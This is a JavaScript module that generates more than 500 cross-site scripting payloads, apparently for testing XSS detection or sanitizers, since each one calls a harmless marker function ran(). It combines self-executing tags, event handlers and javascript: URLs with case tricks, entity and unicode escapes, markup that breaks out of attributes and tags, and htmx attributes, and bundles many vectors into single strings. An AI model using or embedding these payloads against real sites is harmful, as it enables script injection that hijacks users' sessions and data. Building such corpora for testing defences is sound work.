// Ways to smuggle a script into a page, each calling ran(): elements that run by themselves, handlers, addresses, broken
// markup that browsers mend, other spellings of the same. 500 and more, all different.
const call = ['ran()', 'window.ran()', 'top.ran()', "self['ran']()", 'ran`1`', '(0,ran)()', '&#114;an()', 'r\\u0061n()', "eval('ran()')", "setTimeout('ran()')", 'alert(1)']
const selfStarting = [
  (c) => `<script>${c}</script>`, (c) => `<ScRiPt>${c}</sCrIpT>`, (c) => `<script >${c}</script\t>`, (c) => `<scr<script>ipt>${c}</script>`, (c) => `<script/x>${c}</script>`, (c) => `<script type=module>${c}</script>`,
  (c) => `<img src=x onerror="${c}">`, (c) => `<img src=x onerror=${c}//`, (c) => `<img/src=x/onerror=${c}>`, (c) => `<IMG SRC=x OnErRoR='${c}'>`, (c) => `<img src=x:x onerror\n=\n"${c}">`, (c) => `<image src=x onerror="${c}">`,
  (c) => `<svg onload="${c}">`, (c) => `<svg/onload=${c}>`, (c) => `<svg><script>${c}</script></svg>`, (c) => `<svg><animate onbegin="${c}" attributeName=x dur=1s>`, (c) => `<svg><a xlink:href="javascript:${c}"><text y=20>x</text></a></svg>`, (c) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${c} />#x">`,
  (c) => `<body onload="${c}">`, (c) => `<iframe src="javascript:${c}"></iframe>`, (c) => `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`, (c) => `<iframe onload="${c}"></iframe>`, (c) => `<object data="javascript:${c}">`, (c) => `<embed src="javascript:${c}">`,
  (c) => `<video><source onerror="${c}"></video>`, (c) => `<audio src=x onerror="${c}">`, (c) => `<video src=x onerror=${c}>`, (c) => `<input autofocus onfocus="${c}">`, (c) => `<select autofocus onfocus="${c}">`, (c) => `<textarea autofocus onfocus="${c}">`,
  (c) => `<details open ontoggle="${c}">`, (c) => `<marquee onstart="${c}">`, (c) => `<style onload="${c}"></style>`, (c) => `<link rel=stylesheet href=x onerror="${c}">`, (c) => `<meta http-equiv=refresh content="0;url=javascript:${c}">`, (c) => `<math><mtext></mtext><script>${c}</script></math>`,
]
const breaking = ['"', "'", '>', '">', "'>", '</title>', '</textarea>', '"/>', '-->', ']]>', '</script>', '</option></select>', '{{', '`', '\u2028', '\u0000'.replace('\u0000', '%00')]
const attribute = [(c) => `" onfocus="${c}" autofocus x="`, (c) => `' onfocus='${c}' autofocus x='`, (c) => `" onmouseover="${c}`, (c) => `x onerror=${c} `, (c) => `javascript:${c}`, (c) => `JaVaScRiPt:${c}`, (c) => `java\tscript:${c}`, (c) => `data:text/html,<script>${c}</script>`, (c) => `" hx-on:load="${c}" x="`, (c) => `" hx-get="data:text/html,<script>${c}</script>" hx-trigger="load" x="`]

export const vectors = [...new Set([
  ...selfStarting.flatMap((make) => call.map((c) => make(c))),
  ...breaking.flatMap((b) => [selfStarting[0], selfStarting[6], selfStarting[12]].map((make) => b + make('ran()'))),
  ...attribute.flatMap((make) => call.slice(0, 6).map((c) => make(c))),
])]

/** bundles are the vectors put together, so many in one text, since one that breaks out takes nobody's chance away. */
export function bundles(size) {
  const all = []
  for (let i = 0; i < vectors.length; i += size) all.push(vectors.slice(i, i + size).join(' 甲 '))
  return all
}
